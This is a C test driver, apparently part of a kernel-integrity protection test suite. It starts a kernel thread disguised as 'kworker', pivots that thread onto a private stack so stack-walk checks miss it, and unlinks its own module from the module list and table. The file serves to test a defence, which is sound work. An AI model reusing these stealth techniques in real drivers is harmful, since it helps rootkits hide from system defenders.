/* attack_a96_own_stack (A96): a hidden driver's kernel thread on a stack of
 * its own. As attack_a73 (thread_create and thread_sleep_ns from the built
 * image, written into the driver by the scenario with printk's address for
 * the kernel's random base), it starts a kernel thread of the system
 * process on its own routine and removes its module record from the module
 * list and the module table. The routine first moves its stack pointer to
 * a 16 KiB buffer in the driver's own data and runs its loop there
 * (sleeping 10 ms at a time, printing every 20 rounds, with ordinary
 * calls): every return address into the hidden driver lies on that buffer,
 * and the walk of a thread's frame chain follows frames only while they
 * stay inside the thread's kernel stack, which the thread no longer uses
 * (its stack top, which RSP0 and the SYSCALL stack take, is untouched).
 * Expected (before the fix): no bug check, the thread prints on. */
#include "attack.h"

struct process;

typedef struct thread *(*thread_create_fn)(struct process *p, const char *name, void (*fn)(void *), void *arg);
typedef status_t (*thread_sleep_fn)(uint64_t ns);

/* Set by the scenario from the built image's symbols. */
volatile uint64_t printk_at, thread_sleep_at, thread_create_at;

static struct ktimer wait_timer;
static struct dpc wait_dpc;
static struct module *self;
static thread_sleep_fn sleep_ns;
static volatile uint64_t rounds;
static uint8_t own_stack[16384] __attribute__((aligned(16)));

static void loop(void)
{
	for (;;) {
		sleep_ns(10000000ull);
		if (++rounds % 20 == 0)
			printk("~ attack_a96: hidden thread on its own stack, round %lu\n", rounds);
	}
}

static void hidden(void *arg)
{
	/* The kernel stack is left for good: no frame of the loop is ever on it. */
	__asm__ volatile("mov %0, %%rsp\n\t"
			 "xor %%ebp, %%ebp\n\t"
			 "call *%1"
			 :
			 : "r"(own_stack + sizeof own_stack), "r"(loop)
			 : "memory");
	__builtin_unreachable();
}

static void attack(struct dpc *d, void *ctx)
{
	if (!thread_create_at || !thread_sleep_at || !printk_at)
		return;
	uint64_t slide = (uint64_t)&printk - printk_at;
	thread_create_fn create = (thread_create_fn)(thread_create_at + slide);
	sleep_ns = (thread_sleep_fn)(thread_sleep_at + slide);
	thread_create_at = 0;
	timer_cancel(&wait_timer);
	if (!a_in_kernel_text((uint64_t)create) || !a_in_kernel_text((uint64_t)sleep_ns)) {
		printk("attack_a96: thread_create or thread_sleep_ns not in kernel text\n");
		return;
	}
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	if (!create(NULL, "kworker", hidden, NULL)) {
		a_restore(pf);
		printk("attack_a96: thread_create failed\n");
		return;
	}
	a_hide_module(self, a_module_slot(self));
	printk("attack_a96: a kernel thread runs the driver's code on the driver's own stack; the driver hidden from the module list and table\n");
	a_patched("attack_a96");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	self = a_module_of(drv);
	dpc_init(&wait_dpc, attack, NULL);
	timer_init(&wait_timer, &wait_dpc);
	timer_set(&wait_timer, 1000000ull, 1000000ull);
	printk("attack_a96: waiting for the addresses of thread_create and thread_sleep_ns\n");
	return KPP_STATUS_SUCCESS;
}
